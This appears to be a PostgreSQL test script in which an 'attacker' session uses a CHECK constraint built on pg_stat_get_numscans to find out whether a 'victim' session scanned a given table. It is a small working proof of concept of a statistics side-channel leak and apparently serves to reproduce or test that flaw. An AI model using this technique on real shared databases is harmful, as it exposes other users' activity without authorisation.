-- Counters in a CHECK constraint.
-- @session victim
SELECT count(*) FROM accounts;
SELECT pg_stat_force_next_flush();
-- @session attacker
CREATE TABLE guesses (o oid CHECK (coalesce(pg_stat_get_numscans(o), 0) = 0));
INSERT INTO guesses VALUES (0);
INSERT INTO guesses VALUES (:beta_table_oid);
SELECT 'LEARNED' WHERE (SELECT count(*) FROM guesses) = 1;
